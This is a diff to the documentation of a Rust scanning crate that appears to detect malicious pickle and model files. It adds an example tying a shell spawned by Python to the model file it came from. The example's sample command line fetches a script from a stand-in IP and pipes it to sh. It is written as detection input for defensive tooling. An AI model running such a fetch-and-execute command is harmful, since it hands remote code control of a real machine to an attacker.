@@ -26,8 +26,29 @@
 //! * [`collect_files`] and [`scan_files`] — the same in two steps, with a progress callback.
 //! * [`FileReport::literals_in`] — which of the file's string literals occur in a command line
 //!   (ties a spawned shell to the model file it came from).
+//! * [`FileReport::is_model`] — whether the file held any pickle or model container at all
+//!   (most files a Python process opens are not models).
+//! * [`ScanCache`] — reports cached by path, size and mtime, for alert linking.
+//!
+//! # Example: tie a shell spawned by python to the model files it had open
+//!
+//! ```no_run
+//! use spawnguard_scan::{ScanCache, Verdict};
+//! let cache = ScanCache::new(4096);
+//! let open_files = ["/models/resnet.pt", "/usr/lib/python3.11/os.py"];
+//! let shell_cmdline = "sh -c curl -s http://203.0.113.7/x.sh | sh";
+//! for f in open_files {
+//!     let r = cache.scan(std::path::Path::new(f));
+//!     if r.is_model() {
+//!         let tied = r.literals_in(shell_cmdline, 6);
+//!         println!("{}: {} {:?}", r.path, r.verdict, tied);
+//!         let _ = r.verdict >= Verdict::Dangerous;
+//!     }
+//! }
+//! ```
 
 mod archive;
+mod cache;
 mod ctx;
 mod formats;
 mod pickle;
@@ -37,6 +58,7 @@ mod zip;
 
 use std::path::{Path, PathBuf};
 
+pub use cache::ScanCache;
 pub use ctx::{MAX_DEPTH, MAX_FINDINGS, MAX_INFLATE, MAX_LITERALS};
 pub use policy::classify;
 pub use report::{FileReport, Finding, ScanError, Verdict};
